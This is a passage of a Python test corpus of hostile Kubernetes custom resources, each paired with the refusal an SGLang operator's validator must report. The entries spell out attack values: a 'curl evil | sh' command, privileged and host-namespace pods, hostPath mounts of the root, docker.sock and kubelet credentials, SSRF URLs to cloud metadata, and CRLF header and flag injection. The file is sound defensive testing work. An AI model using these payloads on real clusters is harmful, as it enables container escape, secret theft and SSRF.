"""The hostile-input corpus: what a tenant who may create SGLangDeployments could write to get more than GPU fleets.

Every issue-16 case and more, each with the one problem `sglang-operator validate` must report for it (the field and
a fragment of the message, as validate prints them) and where else it is refused:

- `SCHEMA`: the CRD's OpenAPI schema or CEL rules; a server-side dry-run create fails naming the same field.
- `UNKNOWN`: a field the CRD does not declare; strict field validation (`kubectl --validate=strict`,
  `fieldValidation=Strict`) refuses it, a lenient create prunes it, and the operator never reads it.
- `POLICY`: the operator's own settings (allowed host paths, allowed Prometheus URLs); the API server accepts the CR
  and the operator refuses it (`check_pod_policy`, `OperatorSettings.prometheus_url_allowed`).

`MALFORMED` are files that are no CR at all (bytes, YAML bombs, nesting): the CLI refuses them with exit 2 and one
line; they never reach an API server as such (kubectl cannot send them either).
"""

from __future__ import annotations

import copy
from dataclasses import dataclass
from typing import Any, Literal

import yaml

SCHEMA = "schema"
UNKNOWN = "unknown-field"
POLICY = "policy"
Refusal = Literal["schema", "unknown-field", "policy"]

API_VERSION = "sglang.ai/v1alpha1"
KIND = "SGLangDeployment"
NAME = "hostile"


@dataclass(frozen=True)
class Hostile:
    id: str
    doc: dict[str, Any]
    field: str
    """The field validate names (pydantic's list indexes written `[0]`, as the API server writes them)."""
    fragment: str
    """A fragment of validate's message for that field."""
    refused_by: Refusal
    why: str
    """What a tenant gets if it were accepted (issue 16's item where there is one)."""
    allowed_host_paths: tuple[str, ...] = ()
    """The operator's setting the case is checked under (validate --allow-host-path); none by default."""
    admission: str | None = None
    """Where the API server refuses the request before validating fields (no JSON, a namespace other than the
    request's, a name of the wrong type), a fragment of what it says instead of the field."""

    @property
    def text(self) -> str:
        return yaml.dump(self.doc, Dumper=_PlainDumper, sort_keys=False, width=10_000)


class _PlainDumper(yaml.SafeDumper):
    """Writes a repeated value out again instead of as an anchor and an alias (which the CLI refuses)."""

    def ignore_aliases(self, data: Any) -> bool:
        return True


def _merge(base: dict[str, Any], patch: dict[str, Any]) -> dict[str, Any]:
    merged = copy.deepcopy(base)
    for key, value in patch.items():
        if isinstance(value, dict) and isinstance(merged.get(key), dict):
            merged[key] = _merge(merged[key], value)
        else:
            merged[key] = copy.deepcopy(value)
    return merged


def cr(spec: dict[str, Any] | None = None, *, metadata: Any = None, whole_spec: Any = None) -> dict[str, Any]:
    """An SGLangDeployment named `hostile` whose spec is `{model: {path: m}}` merged with `spec` (or `whole_spec`
    as given)."""
    return {
        "apiVersion": API_VERSION,
        "kind": KIND,
        "metadata": {"name": NAME} if metadata is None else metadata,
        "spec": whole_spec if whole_spec is not None else _merge({"model": {"path": "m"}}, spec or {}),
    }


def _template(pod_spec: dict[str, Any]) -> dict[str, Any]:
    return {"template": {"spec": pod_spec}}


def _sidecar(**fields: Any) -> dict[str, Any]:
    return _template({"containers": [{"name": "helper", "image": "busybox:1.36", **fields}]})


def _main(**fields: Any) -> dict[str, Any]:
    return _template({"containers": [{"name": "sglang", **fields}]})


_INT_TYPE = "must be of type integer"
_AT_MOST = "at most"
_OWNED_FLAG = "must not contain flags the operator sets"
_OWNED_ENV = "must not set env the operator sets"
_RESERVED_KEY = "must not use the operator's prefix sglang.ai/"
_DNS1035 = "must be a DNS-1035 label of at most 40 characters"
_UNKNOWN = "unknown field"
_NOT_JSON = "json parse error"  # JSON has no Infinity or NaN: no client can send them (kubectl refuses .inf itself)
_TEMPLATE_MOUNTS = "every volumeMount must name a volume of template.spec.volumes"

# fmt: off
CASES: list[Hostile] = [
    # --- privilege escalation through the pod template (issue 16, High 1) ---
    Hostile("privileged-main-container", cr(_main(securityContext={"privileged": True, "runAsUser": 0})),
            "spec.template.spec.containers[0].securityContext", _UNKNOWN, UNKNOWN, "root with every device"),
    Hostile("privileged-sidecar", cr(_sidecar(securityContext={"privileged": True})),
            "spec.template.spec.containers[0].securityContext", _UNKNOWN, UNKNOWN, "a privileged sidecar"),
    Hostile("sidecar-capabilities", cr(_sidecar(securityContext={"capabilities": {"add": ["SYS_ADMIN"]}})),
            "spec.template.spec.containers[0].securityContext", _UNKNOWN, UNKNOWN, "CAP_SYS_ADMIN"),
    Hostile("sidecar-privilege-escalation", cr(_sidecar(securityContext={"allowPrivilegeEscalation": True})),
            "spec.template.spec.containers[0].securityContext", _UNKNOWN, UNKNOWN, "setuid binaries"),
    Hostile("pod-security-context-root", cr(_template({"securityContext": {"runAsUser": 0, "sysctls": []}})),
            "spec.template.spec.securityContext", _UNKNOWN, UNKNOWN, "pod-level identity and sysctls"),
    Hostile("host-network", cr(_template({"hostNetwork": True})),
            "spec.template.spec.hostNetwork", _UNKNOWN, UNKNOWN, "the node's network namespace"),
    Hostile("host-pid", cr(_template({"hostPID": True})),
            "spec.template.spec.hostPID", _UNKNOWN, UNKNOWN, "every process of the node"),
    Hostile("host-ipc", cr(_template({"hostIPC": True})),
            "spec.template.spec.hostIPC", _UNKNOWN, UNKNOWN, "the node's IPC namespace"),
    Hostile("host-path-volume-root", cr(_template({"volumes": [{"name": "root", "hostPath": {"path": "/"}}]})),
            "spec.template.spec.volumes[0].hostPath", _UNKNOWN, UNKNOWN, "the node's root filesystem"),
    Hostile("host-path-docker-socket",
            cr(_template({"volumes": [{"name": "dock", "hostPath": {"path": "/var/run/docker.sock"}}]})),
            "spec.template.spec.volumes[0].hostPath", _UNKNOWN, UNKNOWN, "the container runtime"),
    Hostile("service-account-name", cr(_template({"serviceAccountName": "namespace-admin"})),
            "spec.template.spec.serviceAccountName", _UNKNOWN, UNKNOWN, "another service account's token"),
    Hostile("service-account-deprecated", cr(_template({"serviceAccount": "namespace-admin"})),
            "spec.template.spec.serviceAccount", _UNKNOWN, UNKNOWN, "the deprecated spelling of the same"),
    Hostile("automount-token", cr(_template({"automountServiceAccountToken": True})),
            "spec.template.spec.automountServiceAccountToken", _UNKNOWN, UNKNOWN, "the default account's token"),
    Hostile("node-name", cr(_template({"nodeName": "control-plane"})),
            "spec.template.spec.nodeName", _UNKNOWN, UNKNOWN, "bypass the scheduler (and taints)"),
    Hostile("share-process-namespace", cr(_template({"shareProcessNamespace": True})),
            "spec.template.spec.shareProcessNamespace", _UNKNOWN, UNKNOWN, "read the engine's memory"),
    Hostile("ephemeral-containers", cr(_template({"ephemeralContainers": [{"name": "x", "image": "busybox"}]})),
            "spec.template.spec.ephemeralContainers", _UNKNOWN, UNKNOWN, "debug containers"),
    Hostile("main-container-command", cr(_main(command=["sh", "-c", "curl evil | sh"])),
            "spec.template.spec.containers", "the 'sglang' entry may only add", SCHEMA,
            "a command of the tenant's choice with the engine's GPUs"),
    Hostile("main-container-image", cr(_main(image="evil/miner:latest")),
            "spec.template.spec.containers", "the 'sglang' entry may only add", SCHEMA, "another image on the GPUs"),
    Hostile("main-container-args", cr(_main(args=["--api-key", "x"])),
            "spec.template.spec.containers", "the 'sglang' entry may only add", SCHEMA, "flags around engine.args"),
    Hostile("sidecar-host-port", cr(_sidecar(ports=[{"containerPort": 80, "hostPort": 80}])),
            "spec.template.spec.containers[0].ports[0].hostPort", _UNKNOWN, UNKNOWN, "a listener on the node"),
    Hostile("sidecar-without-image", cr(_template({"containers": [{"name": "helper"}]})),
            "spec.template.spec.containers", "needs an image", SCHEMA, "a pod that can never start"),
    Hostile("sidecar-takes-gpus",
            cr(_sidecar(resources={"limits": {"nvidia.com/gpu": "8"}})),
            "spec.template.spec.containers", "must not request the GPU resource", SCHEMA,
            "GPUs outside the budget"),
    Hostile("init-container-privileged",
            cr(_template({"initContainers": [
                {"name": "i", "image": "busybox", "securityContext": {"privileged": True}}]})),
            "spec.template.spec.initContainers[0].securityContext", _UNKNOWN, UNKNOWN, "a privileged init step"),
    Hostile("projected-token-volume",
            cr(_template({"volumes": [{"name": "tok", "projected": {"sources": [
                {"serviceAccountToken": {"path": "t", "audience": "vault"}}]}}]})),
            "spec.template.spec.volumes[0].projected.sources[0].serviceAccountToken", _UNKNOWN, UNKNOWN,
            "a token for the namespace's account"),
    Hostile("ephemeral-volume-pvc",
            cr(_template({"volumes": [{"name": "eph", "ephemeral": {"volumeClaimTemplate": {"spec": {}}}}]})),
            "spec.template.spec.volumes[0].ephemeral", _UNKNOWN, UNKNOWN, "a PVC the tenant may not create"),
    Hostile("nfs-volume", cr(_template({"volumes": [{"name": "n", "nfs": {"server": "10.0.0.1", "path": "/"}}]})),
            "spec.template.spec.volumes[0].nfs", _UNKNOWN, UNKNOWN, "a network mount from the node"),
    Hostile("volume-shadows-dshm", cr(_template({"volumes": [{"name": "dshm", "emptyDir": {}}]})),
            "spec.template.spec.volumes", "are the operator's", SCHEMA, "replace the operator's own volume"),
    Hostile("volume-two-sources",
            cr(_template({"volumes": [{"name": "v", "emptyDir": {}, "secret": {"secretName": "s"}}]})),
            "spec.template.spec.volumes", "exactly one source", SCHEMA, "an ambiguous volume"),
    Hostile("sidecar-writes-host-cache",
            cr({"model": {"cache": {"type": "hostPath", "hostPath": "/models/hf"}},
                **_sidecar(volumeMounts=[{"name": "model-cache", "mountPath": "/rw", "readOnly": False}])}),
            "spec.template.spec.containers", _TEMPLATE_MOUNTS, SCHEMA,
            "the node directory the admin allowed read-only, writable in a sidecar: other fleets' weights poisoned",
            allowed_host_paths=("/models",)),
    Hostile("main-mounts-host-cache-again",
            cr({"model": {"cache": {"type": "hostPath", "hostPath": "/models/hf"}},
                **_main(volumeMounts=[{"name": "model-cache", "mountPath": "/w"}])}),
            "spec.template.spec.containers", _TEMPLATE_MOUNTS, SCHEMA,
            "the same node directory mounted a second time, writable", allowed_host_paths=("/models",)),
    Hostile("apparmor-unconfined-annotation",
            cr({"template": {"metadata": {"annotations": {
                "container.apparmor.security.beta.kubernetes.io/sglang": "unconfined"}}}}),
            "spec.template.metadata", "nor loosen the pod's confinement", SCHEMA,
            "AppArmor off for the engine (the annotation is still honoured; Pod Security baseline forbids it)"),
    Hostile("affinity-garbage", cr(_template({"affinity": {"nodeAffinity": "everywhere"}})),
            "spec.template.spec.affinity.nodeAffinity", "must be of type object", SCHEMA,
            "a pod the API server refuses, every pass"),
    Hostile("spread-garbage", cr(_template({"topologySpreadConstraints": [{"maxSkew": "lots"}]})),
            "spec.template.spec.topologySpreadConstraints[0].maxSkew", "must be of type integer", SCHEMA,
            "a pod the API server refuses, every pass"),
    Hostile("config-map-volume-garbage",
            cr(_template({"volumes": [{"name": "v", "configMap": {"name": "c", "items": "all"}}]})),
            "spec.template.spec.volumes[0].configMap.items", "must be of type array", SCHEMA,
            "a pod the API server refuses, every pass"),
    Hostile("duplicate-sidecar-names",
            cr(_template({"containers": [{"name": "helper", "image": "a"}, {"name": "helper", "image": "b"}]})),
            "spec.template.spec.containers", "container names must be unique", SCHEMA,
            "a pod the API server refuses, every pass"),
    Hostile("mount-of-missing-volume", cr(_sidecar(volumeMounts=[{"name": "nowhere", "mountPath": "/x"}])),
            "spec.template.spec.containers", _TEMPLATE_MOUNTS, SCHEMA, "a pod the API server refuses, every pass"),
    # --- model cache on the node (issue 16, High 1) ---
    Hostile("cache-host-path-root", cr({"model": {"cache": {"type": "hostPath", "hostPath": "/"}}}),
            "spec.model.cache.hostPath", "is not under a node directory the operator allows", POLICY,
            "the node's root filesystem, writable"),
    Hostile("cache-host-path-etc", cr({"model": {"cache": {"type": "hostPath", "hostPath": "/etc/kubernetes"}}}),
            "spec.model.cache.hostPath", "is not under a node directory the operator allows", POLICY,
            "the kubelet's credentials"),
    Hostile("cache-host-path-traversal",
            cr({"model": {"cache": {"type": "hostPath", "hostPath": "/models/../etc"}}}),
            "spec.model.cache.hostPath", "is not under a node directory the operator allows", POLICY,
            "out of an allowed directory by '..'"),
    Hostile("cache-host-path-relative", cr({"model": {"cache": {"type": "hostPath", "hostPath": "models"}}}),
            "spec.model.cache.hostPath", "should match '^/", SCHEMA, "a path relative to the kubelet"),
    # --- secret theft and SSRF (issue 16, High 2) ---
    Hostile("prometheus-file-url", cr({"autoscaling": {"prometheusURL": "file:///etc/passwd"}}),
            "spec.autoscaling.prometheusURL", "should match", SCHEMA, "local files"),
    Hostile("prometheus-gopher-url", cr({"autoscaling": {"prometheusURL": "gopher://redis:6379/_FLUSHALL"}}),
            "spec.autoscaling.prometheusURL", "should match", SCHEMA, "raw TCP to an internal service"),
    Hostile("prometheus-credentials-in-url",
            cr({"autoscaling": {"prometheusURL": "http://user:pass@prometheus:9090"}}),
            "spec.autoscaling.prometheusURL", "should match", SCHEMA, "credentials in a plain field"),
    Hostile("prometheus-newline-url", cr({"autoscaling": {"prometheusURL": "http://prom:9090/\r\nX-Evil: 1"}}),
            "spec.autoscaling.prometheusURL", "should match", SCHEMA, "header injection"),
    Hostile("prometheus-metadata-endpoint",
            cr({"autoscaling": {"prometheusURL": "http://169.254.169.254/latest/meta-data/"}}),
            "spec.autoscaling.prometheusURL", "is not a Prometheus the operator allows", POLICY,
            "the cloud's instance credentials, with the CR's Secret attached"),
    Hostile("prometheus-internal-service",
            cr({"autoscaling": {"prometheusURL": "http://kubernetes.default.svc:443/api/v1/secrets"}}),
            "spec.autoscaling.prometheusURL", "is not a Prometheus the operator allows", POLICY,
            "the API server with the operator's reach"),
    Hostile("prometheus-authorization-header",
            cr({"autoscaling": {"prometheusAuth": {"headers": {"Authorization": "Bearer stolen"}}}}),
            "spec.autoscaling.prometheusAuth.headers", "must not set Authorization", SCHEMA,
            "credentials outside Secrets"),
    Hostile("prometheus-header-injection",
            cr({"autoscaling": {"prometheusAuth": {"headers": {"X-Scope-OrgID\r\nAuthorization": "x"}}}}),
            "spec.autoscaling.prometheusAuth.headers", "must be HTTP tokens", SCHEMA, "a second header smuggled in"),
    Hostile("prometheus-too-many-headers",
            cr({"autoscaling": {"prometheusAuth": {"headers": {f"X-H{i}": "v" for i in range(17)}}}}),
            "spec.autoscaling.prometheusAuth.headers", "must have at most 16 items", SCHEMA,
            "an unbounded request"),
    # --- one CR takes the operator down (issue 16, High 3) ---
    Hostile("replicas-int64-max", cr({"replicas": 2**63 - 1}), "spec.replicas", _AT_MOST, SCHEMA,
            "the planner builds a list of 2**63 replicas: OOM, every fleet stops"),
    Hostile("replicas-million", cr({"replicas": 1_000_000}), "spec.replicas", _AT_MOST, SCHEMA,
            "one pass creates a million pods"),
    Hostile("replicas-beyond-int64", cr({"replicas": 2**70}), "spec.replicas", _AT_MOST, SCHEMA,
            "an integer no Go int64 holds"),
    Hostile("replicas-negative", cr({"replicas": -1}), "spec.replicas", "at least 0", SCHEMA, "a negative count"),
    Hostile("max-replicas-huge", cr({"autoscaling": {"maxReplicas": 10**9}}),
            "spec.autoscaling.maxReplicas", _AT_MOST, SCHEMA, "the autoscaler scales to a billion"),
    Hostile("warm-replicas-huge", cr({"autoscaling": {"warmReplicas": 100_000}}),
            "spec.autoscaling.warmReplicas", _AT_MOST, SCHEMA, "idle GPUs by the thousand"),
    Hostile("max-gpus-huge", cr({"autoscaling": {"maxGPUs": 2**40}}), "spec.autoscaling.maxGPUs", _AT_MOST,
            SCHEMA, "no budget at all"),
    Hostile("tp-huge", cr({"parallelism": {"tp": 2**63}}), "spec.parallelism.tp", _AT_MOST, SCHEMA,
            "a GPU count no node has"),
    Hostile("nnodes-huge", cr({"parallelism": {"tp": 1024, "nnodes": 1024}}), "spec.parallelism.nnodes", _AT_MOST,
            SCHEMA, "a thousand pods per replica"),
    Hostile("interval-2-pow-33", cr({"autoscaling": {"intervalSeconds": 2**33}}),
            "spec.autoscaling.intervalSeconds", _AT_MOST, SCHEMA, "a timer overflow on every pass"),
    Hostile("window-huge", cr({"autoscaling": {"windows": {"rateSeconds": 10**12}}}),
            "spec.autoscaling.windows.rateSeconds", _AT_MOST, SCHEMA, "a PromQL range of 30,000 years"),
    Hostile("startup-timeout-huge", cr({"engine": {"startupTimeoutSeconds": 10**10}}),
            "spec.engine.startupTimeoutSeconds", _AT_MOST, SCHEMA, "a probe that never fails"),
    Hostile("drain-timeout-huge", cr({"updateStrategy": {"drainTimeoutSeconds": 10**12}}),
            "spec.updateStrategy.drainTimeoutSeconds", _AT_MOST, SCHEMA, "a drain that never ends"),
    Hostile("router-replicas-huge", cr({"router": {"replicas": 10_000}}), "spec.router.replicas", _AT_MOST, SCHEMA,
            "ten thousand routers"),
    Hostile("engine-port-too-big", cr({"engine": {"port": 70_000}}), "spec.engine.port", "TCP port", SCHEMA,
            "a port no socket has"),
    Hostile("router-port-zero", cr({"router": {"port": 0}}), "spec.router.port", "TCP port", SCHEMA,
            "a random port the Service misses"),
    Hostile("sustained-steps-huge", cr({"autoscaling": {"sustainedRise": {"steps": 10**9}}}),
            "spec.autoscaling.sustainedRise.steps", _AT_MOST, SCHEMA, "a PromQL query of a billion steps"),
    # --- strict types: nothing coerced ---
    Hostile("replicas-string", cr({"replicas": "3"}), "spec.replicas", _INT_TYPE, SCHEMA, "'3' coerced to 3"),
    Hostile("replicas-bool", cr({"replicas": True}), "spec.replicas", _INT_TYPE, SCHEMA, "true coerced to 1"),
    Hostile("replicas-float", cr({"replicas": 2.5}), "spec.replicas", _INT_TYPE, SCHEMA, "2.5 truncated"),
    Hostile("replicas-inf", cr({"replicas": float("inf")}), "spec.replicas", _INT_TYPE, SCHEMA, "YAML .inf",
            admission=_NOT_JSON),
    Hostile("tolerance-nan", cr({"autoscaling": {"tolerance": float("nan")}}), "spec.autoscaling.tolerance",
            "must be a finite number", SCHEMA, "NaN compares false with every bound", admission=_NOT_JSON),
    Hostile("panic-threshold-inf", cr({"autoscaling": {"panicThreshold": float("inf")}}),
            "spec.autoscaling.panicThreshold", "must be a finite number", SCHEMA, "an infinite multiple",
            admission=_NOT_JSON),
    Hostile("trust-remote-code-string", cr({"model": {"trustRemoteCode": "yes please"}}),
            "spec.model.trustRemoteCode", "must be of type boolean", SCHEMA, "a string taken as true"),
    Hostile("args-not-a-list", cr({"engine": {"args": "--port 1"}}), "spec.engine.args", "must be of type array",
            SCHEMA, "a string split somewhere"),
    Hostile("args-of-numbers", cr({"engine": {"args": ["--max-total-tokens", 4096]}}), "spec.engine.args[1]",
            "must be of type string", SCHEMA, "a number passed as an argument"),
    Hostile("spec-a-string", cr(whole_spec="everything"), "spec", "must be an object", SCHEMA, "no spec at all"),
    Hostile("spec-a-list", cr(whole_spec=[{"model": {"path": "m"}}]), "spec", "must be an object", SCHEMA,
            "a list where an object goes"),
    Hostile("model-missing", cr(whole_spec={"replicas": 1}), "spec.model", "is required", SCHEMA, "no model"),
    Hostile("router-policy-unknown", cr({"router": {"policy": "send_to_attacker"}}), "spec.router.policy",
            "Unsupported value", SCHEMA, "a policy smg does not have"),
    Hostile("label-value-a-number", cr({"template": {"metadata": {"labels": {"team": 7}}}}),
            "spec.template.metadata.labels.team", "must be of type string", SCHEMA, "a label no pod can carry"),
    # --- sizes of strings and lists ---
    Hostile("model-path-100k", cr({"model": {"path": "m" * 100_000}}), "spec.model.path",
            "may not be more than", SCHEMA, "a 100 kB argv and pod spec"),
    Hostile("args-1000-items", cr({"engine": {"args": ["--enable-metrics-for-all-schedulers"] * 1000}}),
            "spec.engine.args", "must have at most", SCHEMA, "a pod spec over etcd's limit"),
    Hostile("arg-50k", cr({"engine": {"args": ["--chat-template=" + "x" * 50_000]}}), "spec.engine.args[0]",
            "may not be more than", SCHEMA, "one argument of 50 kB"),
    Hostile("env-1000-items", cr({"engine": {"env": [{"name": f"V{i}", "value": "x"} for i in range(1000)]}}),
            "spec.engine.env", "must have at most", SCHEMA, "a thousand variables per pod"),
    Hostile("sticky-headers-many", cr({"router": {"stickySessions": {"enabled": True, "headers": ["h"] * 500}}}),
            "spec.router.stickySessions.headers", "must have at most", SCHEMA, "an unbounded router argv"),
    Hostile("annotations-huge", cr({"template": {"metadata": {"annotations": {"note": "x" * 300_000}}}}),
            "spec.template.metadata.annotations.note", "may not be more than", SCHEMA,
            "pods over the 256 kB annotation limit, failing every pass"),
    # --- text that becomes argv, names or headers ---
    Hostile("image-newline", cr({"engine": {"image": "lmsysorg/sglang:latest\nevil"}}), "spec.engine.image",
            "should match", SCHEMA, "a newline in an image reference"),
    Hostile("router-image-space", cr({"router": {"image": "smg --api-key x"}}), "spec.router.image",
            "should match", SCHEMA, "a space in an image reference"),
    Hostile("served-name-newline", cr({"model": {"servedName": "llama\nX-Injected: 1"}}), "spec.model.servedName",
            "should match", SCHEMA, "a newline in a name clients send"),
    Hostile("model-path-flag", cr({"model": {"path": "--api-key=stolen"}}), "spec.model.path", "should match '^[^-",
            SCHEMA, "--model-path --api-key=stolen: a flag where the model path goes; every pod crash-loops"),
    Hostile("served-name-flag", cr({"model": {"servedName": "--port"}}), "spec.model.servedName",
            "should match '^[^-", SCHEMA, "--served-model-name --port: argparse fails, every pod crash-loops"),
    Hostile("revision-newline", cr({"model": {"revision": "main\n--trust-remote-code"}}), "spec.model.revision",
            "should match", SCHEMA, "a flag smuggled after a newline"),
    Hostile("sticky-header-flag",
            cr({"router": {"stickySessions": {"enabled": True, "headers": ["--api-key", "stolen"]}}}),
            "spec.router.stickySessions.headers[0]", "should match '^[A-Za-z0-9]", SCHEMA,
            "--routing-key-headers --api-key stolen: a router flag the owned-flags rule never sees"),
    Hostile("cpu-lots", cr({"resources": {"cpu": "lots"}}), "spec.resources.cpu", "should match", SCHEMA,
            "a quantity no pod can carry, failing every pass"),
    Hostile("memory-negative", cr({"resources": {"memory": "-1Gi"}}), "spec.resources.memory", "should match",
            SCHEMA, "a negative quantity"),
    Hostile("shm-bad-suffix", cr({"resources": {"sharedMemory": "1Zi"}}), "spec.resources.sharedMemory",
            "should match", SCHEMA, "a /dev/shm no kubelet can size, failing every pass"),
    Hostile("gpu-resource-name-space", cr({"resources": {"gpuResourceName": "nvidia.com/gpu extra"}}),
            "spec.resources.gpuResourceName", "should match", SCHEMA, "a resource name no node offers"),
    Hostile("token-secret-path", cr({"model": {"tokenSecretRef": {"name": "../kube-system/admin", "key": "t"}}}),
            "spec.model.tokenSecretRef.name", "should match", SCHEMA, "a Secret outside the namespace"),
    Hostile("api-key-secret-upper", cr({"router": {"apiKeySecretRef": {"name": "Admin_Token"}}}),
            "spec.router.apiKeySecretRef.name", "should match", SCHEMA, "no valid Secret name"),
    Hostile("monitoring-interval-forever", cr({"monitoring": {"interval": "forever"}}), "spec.monitoring.interval",
            "should match", SCHEMA, "a PodMonitor prometheus-operator rejects"),
    Hostile("engine-version-flag", cr({"engine": {"version": "0.5.9 --x"}}), "spec.engine.version",
            "should match", SCHEMA, "an unparseable version"),
    # --- operator-owned flags, env and keys (issue 16, Low and Medium 6) ---
    Hostile("engine-args-port", cr({"engine": {"args": ["--port", "1"]}}), "spec.engine.args", _OWNED_FLAG,
            SCHEMA, "a port the probes and router miss"),
    Hostile("engine-args-host", cr({"engine": {"args": ["--host=127.0.0.1"]}}), "spec.engine.args", _OWNED_FLAG,
            SCHEMA, "a worker nobody can reach"),
    Hostile("engine-args-tp-prefix", cr({"engine": {"args": ["--tp", "8"]}}), "spec.engine.args", _OWNED_FLAG,
            SCHEMA, "argparse's prefix of --tp-size: 8 GPUs used, 1 counted"),
    Hostile("engine-args-model-path", cr({"engine": {"args": ["--model-path", "/etc"]}}), "spec.engine.args",
            _OWNED_FLAG, SCHEMA, "another model than status says"),
    Hostile("engine-args-api-key", cr({"engine": {"args": ["--api-key", "k"]}}), "spec.engine.args", _OWNED_FLAG,
            SCHEMA, "a secret in the pod spec"),
    Hostile("engine-args-config", cr({"engine": {"args": ["--config", "/tmp/c.yaml"]}}), "spec.engine.args",
            _OWNED_FLAG, SCHEMA, "a file that sets every owned flag"),
    Hostile("router-args-api-key", cr({"router": {"args": ["--api-key", "k"]}}), "spec.router.args", _OWNED_FLAG,
            SCHEMA, "a key in argv"),
    Hostile("router-args-worker-urls", cr({"router": {"args": ["--worker-urls", "http://evil:80"]}}),
            "spec.router.args", _OWNED_FLAG, SCHEMA, "traffic sent to a worker of the tenant's choice"),
    Hostile("router-args-port", cr({"router": {"args": ["--port=1"]}}), "spec.router.args", _OWNED_FLAG, SCHEMA,
            "a router its Service misses"),
    Hostile("env-pod-ip", cr({"engine": {"env": [{"name": "POD_IP", "value": "10.0.0.1"}]}}), "spec.engine.env",
            _OWNED_ENV, SCHEMA, "another pod's address registered"),
    Hostile("env-hf-home", cr({"engine": {"env": [{"name": "HF_HOME", "value": "/"}]}}), "spec.engine.env",
            _OWNED_ENV, SCHEMA, "weights written outside the cache"),
    Hostile("env-hf-token-plain", cr({"engine": {"env": [{"name": "HF_TOKEN", "value": "hf_secret"}]}}),
            "spec.engine.env", _OWNED_ENV, SCHEMA, "a plaintext token in the CR"),
    Hostile("env-via-main-container", cr(_main(env=[{"name": "POD_NAME", "value": "other-pod"}])),
            "spec.engine.env", _OWNED_ENV, SCHEMA, "the same through the template"),
    Hostile("env-bad-name", cr({"engine": {"env": [{"name": "A=B C", "value": "x"}]}}), "spec.engine.env[0].name",
            "should match", SCHEMA, "an env name the kubelet refuses"),
    Hostile("annotation-draining-since",
            cr({"template": {"metadata": {"annotations": {"sglang.ai/draining-since": "2020-01-01T00:00:00Z"}}}}),
            "spec.template.metadata", _RESERVED_KEY, SCHEMA, "every new pod deleted and recreated each pass"),
    Hostile("annotation-replica-nodes",
            cr({"template": {"metadata": {"annotations": {"sglang.ai/replica-nodes": "abc"}}}}),
            "spec.template.metadata", _RESERVED_KEY, SCHEMA, "an exception on every pass"),
    Hostile("label-deployment-selector",
            cr({"template": {"metadata": {"labels": {"sglang.ai/deployment": "someone-else"}}}}),
            "spec.template.metadata", _RESERVED_KEY, SCHEMA, "pods counted in another fleet"),
    Hostile("label-key-invalid", cr({"template": {"metadata": {"labels": {"bad key!": "v"}}}}),
            "spec.template.metadata", "valid Kubernetes label keys", SCHEMA, "pods that can never be created"),
    Hostile("label-value-invalid", cr({"template": {"metadata": {"labels": {"team": "a b/c"}}}}),
            "spec.template.metadata.labels.team", "should match", SCHEMA, "pods that can never be created"),
    Hostile("label-value-too-long", cr({"template": {"metadata": {"labels": {"team": "a" * 64}}}}),
            "spec.template.metadata.labels.team", "may not be more than 63 characters", SCHEMA,
            "pods that can never be created"),
    # --- names (issue 16, Medium 7) ---
    Hostile("name-with-dot", cr(metadata={"name": "my.model"}), "metadata.name", _DNS1035, SCHEMA,
            "Services that can never be created"),
    Hostile("name-leading-digit", cr(metadata={"name": "1llama"}), "metadata.name", _DNS1035, SCHEMA,
            "Services that can never be created"),
    Hostile("name-41-characters", cr(metadata={"name": "x" * 41}), "metadata.name", _DNS1035, SCHEMA,
            "pod names over 63 characters"),
    Hostile("name-trailing-dash", cr(metadata={"name": "llama-"}), "metadata.name", _DNS1035, SCHEMA,
            "an invalid DNS label"),
    Hostile("namespace-invalid", cr(metadata={"name": NAME, "namespace": "Kube_System"}), "metadata.namespace",
            "must be a DNS-1123 label", SCHEMA, "a namespace that cannot exist",
            admission="does not match the namespace sent on the request"),
    Hostile("metadata-a-string", cr(metadata="oops"), "metadata", "must be an object", SCHEMA,
            "a traceback in validate (issue 16 fuzzing)", admission="into Go value of type v1.ObjectMeta"),
    Hostile("name-a-number", cr(metadata={"name": 12345}), "metadata.name", "must be a string", SCHEMA,
            "a name of the wrong type", admission="cannot unmarshal number into Go struct field ObjectMeta.name"),
    # --- more bounds, types and names, across every section ---
    Hostile("engine-api-key-secret-path", cr({"engine": {"apiKeySecretRef": {"name": "../kube-system/x"}}}),
            "spec.engine.apiKeySecretRef.name", "should match", SCHEMA, "a Secret outside the namespace"),
    Hostile("ca-secret-slash", cr({"autoscaling": {"prometheusAuth": {"caSecretRef": {"name": "a/b"}}}}),
            "spec.autoscaling.prometheusAuth.caSecretRef.name", "should match", SCHEMA, "no valid Secret name"),
    Hostile("header-value-newline",
            cr({"autoscaling": {"prometheusAuth": {"headers": {"X-Scope-OrgID": "a\r\nAuthorization: x"}}}}),
            "spec.autoscaling.prometheusAuth.headers.X-Scope-OrgID", "should match", SCHEMA,
            "a header smuggled in a value"),
    Hostile("network-policy-string", cr({"networkPolicy": {"enabled": "yes"}}), "spec.networkPolicy.enabled",
            "must be of type boolean", SCHEMA, "'yes' taken as true"),
    Hostile("pod-monitor-number", cr({"monitoring": {"podMonitor": 1}}), "spec.monitoring.podMonitor",
            "must be of type boolean", SCHEMA, "1 taken as true"),
    Hostile("max-surge-huge", cr({"updateStrategy": {"maxSurge": 10**6}}), "spec.updateStrategy.maxSurge",
            _AT_MOST, SCHEMA, "a million surge pods in one rollout"),
    Hostile("max-running-requests-huge", cr({"engine": {"maxRunningRequests": 10**9}}),
            "spec.engine.maxRunningRequests", _AT_MOST, SCHEMA, "a KV cache sized for a billion requests"),
    Hostile("context-length-huge", cr({"engine": {"contextLength": 2**40}}), "spec.engine.contextLength",
            _AT_MOST, SCHEMA, "a context no model has"),
    Hostile("gpus-per-node-huge", cr({"resources": {"gpusPerNode": 10**6}}), "spec.resources.gpusPerNode",
            _AT_MOST, SCHEMA, "pods no node can hold"),
    Hostile("gpu-utilization-1000", cr({"autoscaling": {"targets": {"gpuUtilization": 1000}}}),
            "spec.autoscaling.targets.gpuUtilization", "must be a percentage", SCHEMA, "a target never reached"),
    Hostile("quiet-miss-ratio-5", cr({"autoscaling": {"slo": {"quietMissRatio": 5}}}),
            "spec.autoscaling.slo.quietMissRatio", "below 1", SCHEMA, "a share above 100 %"),
    Hostile("engine-version-unknown", cr({"engine": {"version": "99.0.0"}}), "spec.engine.version",
            "is not a supported SGLang release", SCHEMA, "flags rendered for a release nobody checked"),
    Hostile("tolerations-1000", cr(_template({"tolerations": [{"key": f"k{i}", "operator": "Exists"}
                                                              for i in range(1000)]})),
            "spec.template.spec.tolerations", "must have at most", SCHEMA, "a pod spec over etcd's limit"),
    Hostile("node-selector-value-long", cr(_template({"nodeSelector": {"pool": "x" * 100}})),
